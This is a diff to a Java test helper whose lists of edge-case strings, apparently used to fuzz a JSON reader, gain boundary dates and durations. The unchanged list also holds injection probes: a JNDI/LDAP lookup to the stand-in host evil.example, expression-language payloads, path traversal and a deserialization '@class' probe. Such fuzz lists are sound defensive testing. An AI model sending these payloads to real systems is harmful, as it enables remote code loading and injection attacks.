@@ -21,14 +21,21 @@ final class Mutations {
             "1e2147483647", "1e-2147483647", "0.1e-2147483648", "1e-2147483648", "1e2147483648", "0x10", "1_000", "01", ".5", "5.", "+1",
             "9".repeat(65), "1" + "0".repeat(10_000), "0." + "0".repeat(63) + "1");
 
-    /** Strings at the edges: empty, control characters, lone surrogates, expressions, confusables, bad dates and periods. */
+    /**
+     * Strings at the edges: empty, control characters, lone surrogates, expressions, confusables,
+     * bad dates and periods, and the earliest and latest dates and the longest periods and
+     * durations the reader accepts.
+     */
     static final List<String> EXTREME_STRINGS = List.of(
             "\"\"", "\" \"", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u202e\"", "\"\\u200b\"",
             "\"\\ufeff\"", "\"${java.version}\"", "\"#{7*7}\"", "\"{javax.validation.constraints.NotNull.message}\"",
             "\"${jndi:ldap://evil.example/a}\"", "\"\u0430gency\"", "\"a\\\\b\"", "\"\\\"\"", "\"\\/\"",
             "\"2026-02-30\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"0000-00-00\"", "\"2026-2-3\"",
             "\"P-1D\"", "\"PT-1S\"", "\"P0D\"", "\"PT0S\"", "\"P2147483647Y\"", "\"P-2147483648M\"", "\"P999999999W\"",
-            "\"PT9223372036854775807S\"", "\"P1Y-1M\"", "\"p1y\"", "\"us//tx\"", "\"/\"", "\"a/../b\"",
+            "\"PT9223372036854775807S\"", "\"P1Y-1M\"", "\"p1y\"",
+            // The largest values the reader accepts (the ones above it rejects): they reach the rules' date arithmetic.
+            "\"9999-12-31\"", "\"0000-01-01\"", "\"P999999999Y\"", "\"P99999999W\"", "\"PT999999999999H\"",
+            "\"P999999999DT999999999999H999999999999M999999999999.999999999S\"", "\"us//tx\"", "\"/\"", "\"a/../b\"",
             "\"" + "x".repeat(70) + "\"", "\"" + "y".repeat(20_000) + "\"", "\"é\"", "\"e\u0301\"",
             "\"\uff45\uff4d\uff45\uff52\uff47\uff45\uff4e\uff43\uff59\"", "\"in-force\"", "\"IN_FORCE\"",
             "\"supermajority\"", "\"accountable\"", "null", "true", "[]", "{}", "[null]", "{\"@class\":1}");
